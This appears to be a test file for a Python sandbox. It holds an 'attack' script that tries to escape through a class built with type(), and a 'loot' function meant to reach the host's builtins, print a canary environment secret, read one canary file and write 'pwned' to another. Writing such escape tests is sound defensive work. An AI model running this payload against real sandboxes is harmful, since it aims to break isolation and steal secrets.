# attack: type(name, bases, ns) with a __getattribute__ the class statement refuses
reached = []


def loot(b):
    """Given the host's builtins (module or dict): keep it as the result, steal both secrets."""
    reached.append(b)
    try:
        if not isinstance(b, dict):
            b = getattr(b, "__dict__")
        ga = b["getattr"]
        os = b["__import__"]("os")
        print(ga(os, "environ")["MONTY_CANARY_SECRET"])
        print(ga(b["open"](canary_path), "read")())
        ga(b["open"](canary_write_path, "w"), "write")("pwned")
    except Exception as err:
        print("loot stopped:", type(err).__name__)


X = type("X", (), {"__getattribute__": lambda self, name: object.__getattribute__(self, name)})
x = X()
x.y = 1
print(x.y, getattr(type(x), "__subclasses__")())
reached
